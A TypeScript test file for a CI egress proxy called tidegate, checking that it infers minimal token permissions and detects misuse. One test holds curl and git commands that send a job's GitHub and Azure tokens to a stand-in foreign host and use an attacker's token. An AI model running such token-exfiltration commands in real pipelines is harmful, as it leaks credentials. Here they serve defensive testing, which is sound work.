import t from 'tap'
import { openLab, type Lab } from '../lab/lab.ts'
import { whyNoLab } from '../lab/requirements.ts'
import { blockPolicy, runBehind, tidegate } from './behind.ts'
import type { Line } from './record-check.ts'

t.setTimeout(180_000)

// Of the right form, and nobody's.
const own = `ghs_${'a1B2'.repeat(9)}`
const theirs = `ghp_${'Z9y8'.repeat(9)}`
const oidc = 'eyJhbGciOiJub25lIn0.eyJqb2IiOiJsYWIifQ.c2ln'
const azure = 'eyJhbGciOiJub25lIn0.eyJqb2IiOiJhenVyZSJ9.c2ln'
const runner = 'pipelines.actions.githubusercontent.com'

const names = [
  'api.github.com',
  'github.com',
  'uploads.github.com',
  'npm.pkg.github.com',
  'dev.azure.com',
  'files.acme.test',
  runner,
]
/** An Enterprise host, which the environment names; the lab has a repository there. */
const enterprise = 'git.acme.test'
const allow = [enterprise, ...names.filter(name => name !== 'files.acme.test')]

const basic = Buffer.from(`x-access-token:${own}`).toString('base64')
const api = 'curl -sS -o /dev/null -w "%{http_code}\\n" -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com'

/** What a workflow does with its token, one command a line. */
const commands = [
  `git -c http.extraheader="AUTHORIZATION: basic ${basic}" clone -q https://github.com/acme/app.git work`,
  'cd work && git config user.email lab@acme.test && git config user.name Lab && git commit -q --allow-empty -m more',
  `git -c http.extraheader="AUTHORIZATION: basic ${basic}" push -q --force origin HEAD:refs/heads/topic`,
  `git -c http.extraheader="AUTHORIZATION: basic ${basic}" ls-remote https://${enterprise}/acme/app.git >/dev/null`,
  `${api}/repos/acme/app/issues/7/comments -d '{"body":"done"}'`,
  `${api}/repos/acme/app/pulls/7 --http1.1 -X PATCH -d '{}'`,
  `${api}/repos/acme/app/actions/secrets`,
  `${api}/nowhere/17`,
  `${api}/graphql --http1.1 -d '{"query":"mutation X { addComment(input: {body: \\"secret words\\"}) { clientMutationId } }"}'`,
  'curl -sS -o /dev/null -H "Authorization: token $GITHUB_TOKEN" https://uploads.github.com/repos/acme/app/releases/1/assets?name=a.tgz -d bytes',
  'curl -sS -o /dev/null -H "Authorization: Bearer $GITHUB_TOKEN" -X PUT https://npm.pkg.github.com/@acme%2fapp -d "{}"',
  `curl -sS -o /dev/null -H "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" https://${runner}/a/_apis/b/idtoken?audience=x`,
  'curl -sS -o /dev/null -u ":$SYSTEM_ACCESSTOKEN" https://dev.azure.com/acme/app/_apis/build/builds',
]

const env = {
  GITHUB_TOKEN: own,
  ACTIONS_ID_TOKEN_REQUEST_TOKEN: oidc,
  SYSTEM_ACCESSTOKEN: azure,
  GIT_TERMINAL_PROMPT: '0',
  GITHUB_SERVER_URL: `https://${enterprise}`,
}

/** The hosts of GitHub and Azure DevOps, which say yes to nearly everything. */
async function serve(lab: Lab): Promise<void> {
  for (const name of names) await lab.serve(name)
  for (const name of names)
    if (name !== 'github.com' && name !== 'files.acme.test')
      lab.origins.script(name, '*', ({ path }) =>
        path.includes('secrets')
          ? { status: 403, body: '{}' }
          : path.endsWith('/pulls/7')
            ? { status: 200, headers: [['X-Accepted-GitHub-Permissions', 'pull_requests=write']], body: '{}' }
            : { status: 200, body: '{}' },
      )
}

const tokensOf = (lines: readonly Line[]): readonly string[] => [
  ...new Set(lines.flatMap(({ token }) => (token === undefined ? [] : [token]))),
]

await t.test('tidegate permissions: the least of each token', { skip: whyNoLab(['git']) }, async t => {
  await using lab = await openLab({ services: ['origins', 'git'] })
  await serve(lab)
  for (const [mode, policy] of [
    ['block', blockPolicy(allow, 'tokens: { pin: true }\n')],
    ['audit', 'version: 1\nmode: audit\nallow: []\ntokens: {}\n'],
  ] as const)
    await t.test(`in ${mode}`, async t => {
      const run = await runBehind(lab, { policy, command: ['sh', '-ec', commands.join('\n')], env })
      t.equal(run.exitCode, 0, run.stderr)
      t.equal(tokensOf(run.lines).length, 3, 'each credential has one name, however it is sent')
      const log = JSON.stringify(run.lines)
      for (const secret of [own, oidc, azure, basic, 'secret words'])
        t.notOk(log.includes(secret), 'no secret is written')
      t.same(
        run.lines.filter(({ event }) => event === 'anomaly'),
        [],
        'and nothing of it is odd',
      )

      const told = run.lines.filter(({ host, details }) => host === enterprise && details !== undefined)
      t.match(told, [{ details: { git: 'upload-pack', credential: 'GITHUB_TOKEN', home: 'github' } }])

      const json = await lab.host.exec(tidegate, ['permissions', '--format', 'json', run.out])
      t.equal(json.exitCode, 0, json.stderr)
      const { tokens } = JSON.parse(json.stdout)
      t.match(tokens, [
        {
          id: /^[0-9a-f]{16}$/,
          home: 'github',
          unknown: ['GET /nowhere/{id}', 'POST /graphql mutation addComment'],
          requests: Number,
        },
        { home: 'github', permissions: { 'id-token': 'write' }, unknown: [], requests: 1 },
        { home: 'azure', permissions: { Build: 'read' }, unknown: [], requests: 1 },
      ])
      t.same(tokens[0].permissions, { contents: 'write', packages: 'write', 'pull-requests': 'write' })

      const yaml = await lab.host.exec(tidegate, ['permissions', run.out])
      t.match(yaml.stdout, /^permissions:$/m)
      t.match(yaml.stdout, /^  contents: write$/m)
    })
})

const attack = [
  'curl -sS -o /dev/null -w "%{http_code} " -H "Authorization: token $THEIRS" https://api.github.com/user/repos -d "{}"',
  `git -c http.extraheader="AUTHORIZATION: basic ${Buffer.from(`x:${theirs}`).toString('base64')}" ls-remote https://github.com/acme/app.git >/dev/null 2>&1; echo $?`,
  'curl -sS -o /dev/null -w "%{http_code} " -H "X-Note: $GITHUB_TOKEN" https://files.acme.test/status/201',
  'curl -sS -o /dev/null -w "%{http_code} " "https://files.acme.test/status/202?t=$GITHUB_TOKEN"',
  'curl -sS -o /dev/null -w "%{http_code}" -u ":$SYSTEM_ACCESSTOKEN" https://files.acme.test/status/203',
].join('\n')

await t.test(
  "I7: tokens that are not the job's own, and tokens sent elsewhere",
  { skip: whyNoLab(['git']) },
  async t => {
    await using lab = await openLab({ services: ['origins', 'git'] })
    await serve(lab)
    for (const mode of ['block', 'audit'] as const)
      await t.test(`in ${mode}`, async t => {
        await lab.origins.clear()
        const policy = `version: 1\nmode: ${mode}\nallow: [${names.join(', ')}]\ntokens: { pin: true }\n`
        // An attacker brings his own: it is not in what the job was started with.
        const script = attack.replaceAll('$THEIRS', theirs)
        const run = await runBehind(lab, { policy, command: ['sh', '-c', script], env })
        const isBlock = mode === 'block'
        t.equal(run.stdout.replace(/\s+/g, ' '), isBlock ? '403 128 201 202 203' : '200 0 201 202 203', run.stderr)
        const sent = await lab.origins.requests(({ headers }) => JSON.stringify(headers).includes(theirs))
        t.equal(sent.length, isBlock ? 0 : 1, "what reached GitHub with the attacker's token")
        const refused = run.lines.filter(({ rule }) => rule === 'tokens.pin')
        const verdict = isBlock ? 'deny' : 'observe'
        t.match(refused, [
          { host: 'api.github.com', verdict, reason: 'denied-by-rule', method: 'POST' },
          { host: 'github.com', verdict, reason: 'denied-by-rule' },
        ])
        const alarms = run.lines
          .filter(({ event }) => event === 'anomaly')
          .map(({ host, details }) => [details?.['kind'], host])
        t.same(
          alarms,
          [
            ['token-unpinned', 'api.github.com'],
            ['token-unpinned', 'github.com'],
            ['token-abroad', 'files.acme.test'],
            ['token-abroad', 'files.acme.test'],
          ],
          'each is told once',
        )
        for (const secret of [own, theirs, azure])
          t.notOk(JSON.stringify(run.lines).includes(secret), 'no token is written')
        t.match(run.stderr, /GITHUB_TOKEN.* files\.acme\.test/s, 'the report names the variable and the host')
      })
  },
)
